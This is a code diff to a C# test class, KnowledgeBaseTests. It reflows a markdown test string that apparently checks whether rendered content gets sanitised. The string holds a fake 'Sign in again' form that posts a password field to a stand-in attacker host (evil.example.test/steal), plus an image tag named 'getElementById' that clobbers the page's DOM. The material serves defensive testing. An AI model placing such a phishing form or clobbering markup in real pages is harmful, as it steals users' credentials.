@@ -88,7 +88,9 @@ public sealed partial class KnowledgeBaseTests(ComplianceApp app) : IClassFixtur
         const string markdown = """
             Sign in again to read this page:
 
-            <form action="https://evil.example.test/steal" method="post"><input name="password" type="password"><button formaction="https://evil.example.test">Sign in</button><select name="s"><option>a</option></select><textarea name="t">x</textarea></form>
+            <form action="https://evil.example.test/steal" method="post"><input name="password" type="password">
+            <button formaction="https://evil.example.test">Sign in</button><select name="s"><option>a</option></select>
+            <textarea name="t">x</textarea></form>
             <img name="getElementById" src="https://example.test/a.png" alt="clobber">
 
             - [x] done item
